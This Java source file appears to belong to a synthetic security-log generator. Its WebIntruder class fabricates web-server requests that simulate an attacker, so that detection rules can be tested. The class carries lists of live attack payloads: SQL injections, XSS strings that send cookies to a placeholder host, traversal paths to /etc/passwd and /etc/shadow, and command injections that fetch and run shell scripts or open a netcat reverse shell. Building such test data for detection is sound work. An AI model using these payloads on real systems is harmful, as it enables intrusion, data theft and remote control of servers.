package io.weir.generators.attack;

import io.weir.generators.Draw;
import io.weir.generators.Stage;
import io.weir.generators.log.WebLog.Request;
import io.weir.generators.world.Host;
import io.weir.generators.world.World;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;

/** Somebody who sends a web server requests that were not meant. */
final class WebIntruder {
    static final List<String> SQL_INJECTIONS = List.of(
            "1' OR '1'='1",
            "1' OR 1=1-- -",
            "-1 UNION SELECT username,password FROM users-- -",
            "1 UNION ALL SELECT NULL,NULL,concat(user,0x3a,password) FROM mysql.user#",
            "1'; DROP TABLE orders;--",
            "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
            "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
            "admin'--",
            "1' ORDER BY 12-- -",
            "1;WAITFOR DELAY '0:0:5'--",
            "1' UNION SELECT table_name,NULL FROM information_schema.tables-- -");
    static final List<String> SCRIPT_INJECTIONS = List.of(
            "<script>alert(document.cookie)</script>",
            "\"><script src=//203.0.113.199/x.js></script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=fetch('//203.0.113.199/?c='+document.cookie)>",
            "javascript:alert(document.domain)",
            "'><iframe src=javascript:alert(1)>",
            "<body onload=alert('x')>",
            "<a href=javascript:eval(atob('YWxlcnQoMSk='))>x</a>");
    static final List<String> TRAVERSALS = List.of(
            "../../../../etc/passwd",
            "../../../../../../etc/shadow",
            "..\\..\\..\\windows\\win.ini",
            "....//....//....//etc/passwd",
            "/etc/passwd",
            "../../../proc/self/environ",
            "php://filter/convert.base64-encode/resource=../config.php");
    static final List<String> COMMANDS = List.of(
            ";cat /etc/passwd",
            "|id",
            "127.0.0.1;wget http://203.0.113.199/a.sh -O /tmp/a.sh",
            "$(whoami)",
            "`uname -a`",
            "127.0.0.1 && curl http://203.0.113.199/i | sh",
            "|nc 203.0.113.199 4444 -e /bin/sh");

    private static final List<String> PROBES = List.of(
            "/admin/",
            "/wp-login.php",
            "/.env",
            "/.git/config",
            "/phpmyadmin/",
            "/server-status",
            "/backup.zip",
            "/config.php.bak",
            "/manager/html",
            "/api/swagger.json",
            "/cgi-bin/test.cgi",
            "/robots.txt",
            "/console/",
            "/actuator/env",
            "/old/",
            "/test.php",
            "/solr/admin/",
            "/login.action");
    private static final List<String> TOOLS = List.of(
            "sqlmap/1.8.4#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
            "gobuster/3.6",
            "Fuzz Faster U Fool v2.1.0-dev",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)");

    private final Stage stage;
    private final Host server;
    private final String browser;

    WebIntruder(Stage stage, Host server) {
        this.stage = stage;
        this.server = server;
        this.browser = World.browser(stage.draw());
        stage.reaches(server);
    }

    /** Looks for forgotten pages with a tool that says its name. */
    void probe(int count) {
        Draw draw = stage.draw();
        String tool = draw.pick(TOOLS);
        for (int i = 0; i < count; i++) {
            boolean isThere = draw.chance(0.1);
            String path = PROBES.get(i % PROBES.size());
            get(path, isThere ? 200 : draw.chance(0.3) ? 403 : 404, tool);
            stage.pass(60, 500);
        }
        if (count > 0) {
            stage.expect("web-scanner-user-agent", "source.ip", stage.attacker());
        }
    }

    /** Puts something into a parameter, plain or encoded once or twice. */
    void inject(String rule, List<String> payloads, int count) {
        Draw draw = stage.draw();
        for (int i = 0; i < count; i++) {
            String payload = draw.pick(payloads);
            String written =
                    switch (draw.between(0, 4)) {
                        case 0 -> encoded(encoded(payload));
                        case 1, 2 -> encoded(payload);
                        default -> bare(payload);
                    };
            get(page(rule, written), draw.pick(List.of(200, 200, 403, 500)), browser);
            stage.pass(700, 4000);
        }
        if (count > 0) {
            stage.expect(rule, "source.ip", stage.attacker());
        }
    }

    private String page(String rule, String written) {
        Draw draw = stage.draw();
        return switch (rule) {
            case "web-sql-injection" ->
                draw.pick(List.of("/products?id=", "/item.php?cat=2&id=", "/account?user=")) + written;
            case "web-cross-site-scripting" ->
                draw.pick(List.of("/search?q=", "/comment?text=", "/profile?name=")) + written;
            case "web-path-traversal" ->
                draw.pick(List.of("/download?file=", "/view?page=", "/static?path=")) + written;
            default -> draw.pick(List.of("/ping?host=", "/tools/lookup?name=", "/cgi-bin/status?arg=")) + written;
        };
    }

    /** Calls a program that was left in the upload folder. */
    void callShell(String shell, String command) {
        get("/uploads/" + shell + "?cmd=" + encoded(command), 200, browser);
        stage.pass(1500, 6000);
    }

    void upload(String shell) {
        answer(Request.post(stage.attacker(), "/upload.php?name=" + shell, 200, 312, browser, 80));
        stage.pass(900, 3000);
    }

    private void get(String target, int status, String agent) {
        Draw draw = stage.draw();
        long bytes = status == 200 ? draw.size(3000, 0.8) : draw.between(150, 600);
        answer(Request.get(stage.attacker(), target, status, bytes, agent, draw.between(1, 250)));
    }

    private void answer(Request request) {
        stage.sensors().web().answered(stage.now(), server, request);
    }

    /** Only what would break the request itself is encoded. */
    private static String bare(String text) {
        return text.replace("%", "%25")
                .replace(" ", "%20")
                .replace("\"", "%22")
                .replace("#", "%23")
                .replace("&", "%26");
    }

    static String encoded(String text) {
        StringBuilder encoded = new StringBuilder();
        for (byte each : text.getBytes(StandardCharsets.UTF_8)) {
            char character = (char) (each & 0xff);
            boolean isPlain =
                    character < 128 && (Character.isLetterOrDigit(character) || "-_.~".indexOf(character) >= 0);
            encoded.append(isPlain ? String.valueOf(character) : String.format(Locale.ROOT, "%%%02X", (int) character));
        }
        return encoded.toString();
    }
}
